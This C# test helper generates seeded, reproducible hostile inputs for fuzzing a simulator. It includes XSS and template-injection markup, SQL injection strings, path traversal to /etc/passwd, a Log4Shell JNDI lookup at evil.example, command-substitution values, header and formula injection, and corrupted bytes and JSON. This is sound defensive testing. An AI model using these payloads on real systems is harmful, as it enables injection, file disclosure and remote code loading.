using System.Globalization;
using System.Text;
using System.Text.Json;

namespace Simulator.Tests.BadInput;

/// <summary>What nobody should send, drawn from a seed: the same seed gives the same input on every machine.</summary>
public sealed class Hostile(int seed)
{
    /// <summary>Markup that would tell, if any page ever ran it.</summary>
    public const string Script = "<script>window.ran=1</script>", Image = "<img src=x onerror=\"window.ran=1\">", Braces = "{{constructor.constructor('window.ran=1')()}}";

    private static readonly string[] Texts =
    [
        "", " ", "\0", "a\0b", "\u001b[2J\u001b[31mred", "\u202Egnp.exe", "\u2066hidden\u2069", "\uFEFF", "\uffff", "\u0085", "\u2028line\u2029", "line\r\nSet-Cookie: own=1", Script, Image, Braces,
        "\"><svg/onload=window.ran=1>", "javascript:window.ran=1", "<!--", "]]>", "&lt;b&gt;&amp;#x3c;", "<![CDATA[x", "'; DROP TABLE \"Participants\"; --", "' OR ''='", "../../../etc/passwd", "..\\..\\windows\\win.ini",
        "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "${jndi:ldap://evil.example/x}", "$(id)", "`id`", "|id", "%00", "%ff%fe", "%3Cscript%3E", "=1+1", "@SUM(1)", "{post:K1-01.reposts}", "{now}",
        "null", "undefined", "NaN", "true", "-1", "0x7fffffff", "1e400", "99999999999999999999", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306", "👩‍🚒👩‍🚒👩‍🚒", "𠮷𠮷𠮷", "İıſK", "عربى", "演练演练演练",
    ];

    private static readonly int[] Lengths = [201, 4_001, 12_000];
    private readonly Random _random = new(seed);

    public int Below(int most) => _random.Next(most);
    public T Pick<T>(IReadOnlyList<T> from) => from[_random.Next(from.Count)];
    public bool OneIn(int of) => _random.Next(of) == 0;

    /// <summary>A text; may hold anything a .NET string can but halves of surrogate pairs.</summary>
    public string Text() => Below(8) switch
    {
        0 => new string(Pick((char[])['a', '长', '<', '\0', '"', '\\']), Pick(Lengths)),
        1 => Pick(Texts) + Pick(Texts),
        2 => Noise(1 + Below(60)),
        _ => Pick(Texts),
    };

    /// <summary>The text as JSON writes it, now and then with half a character, which only an escape can carry.</summary>
    public string JsonText() => OneIn(12) ? Pick((string[])["\"\\ud800\"", "\"a\\udc00b\"", "\"\\ud83d\\ud83d\""]) : JsonSerializer.Serialize(Text());

    /// <summary>Any JSON value at all.</summary>
    public string Json() => Below(9) switch
    {
        0 => "null",
        1 => Pick((string[])["0", "-1", "1e400", "-1e400", "99999999999999999999999", "3.5", "9223372036854775807", "-9223372036854775808"]),
        2 => Pick((string[])["true", "false"]),
        3 => "[]",
        4 => $"[{JsonText()},{Json()}]",
        5 => $"{{\"a\":{JsonText()},\"$type\":\"System.IO.FileInfo\",\"is\":\"x\"}}",
        6 => string.Concat(Enumerable.Repeat("[", 40)) + string.Concat(Enumerable.Repeat("]", 40)),
        7 => Pick((string[])["\"99999999.00:00:00\"", "\"-00:00:01\"", "\"10675199.02:48:05.4775807\"", "\"system\"", "\"controller\"", "\"2026-01-01T00:00:00Z\""]),
        _ => JsonText(),
    };

    /// <summary>Bytes changed here and there: cut, flipped, doubled, with foreign pieces.</summary>
    public byte[] Damaged(byte[] whole)
    {
        var bytes = whole.ToList();
        for (var n = 1 + Below(3); n > 0; n--)
        {
            var at = bytes.Count == 0 ? 0 : Below(bytes.Count);
            switch (Below(6))
            {
                case 0: bytes.RemoveRange(at, bytes.Count - at); break;
                case 1: bytes.RemoveRange(at, Math.Min(Below(30), bytes.Count - at)); break;
                case 2 when bytes.Count > 0: bytes[at] ^= (byte)(1 << Below(8)); break;
                case 3: bytes.InsertRange(at, Encoding.UTF8.GetBytes(Text())); break;
                case 4: bytes.InsertRange(at, (byte[])[0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]); break;
                default: bytes.InsertRange(at, bytes.GetRange(at, Math.Min(Below(200), bytes.Count - at))); break;
            }
        }
        return [.. bytes];
    }

    public override string ToString() => string.Create(CultureInfo.InvariantCulture, $"seed {seed}");

    private string Noise(int length)
    {
        var noise = new StringBuilder(length);
        for (var i = 0; i < length; i++) noise.Append((char)Below(OneIn(3) ? 0xD7FF : 128));
        return noise.ToString();
    }
}
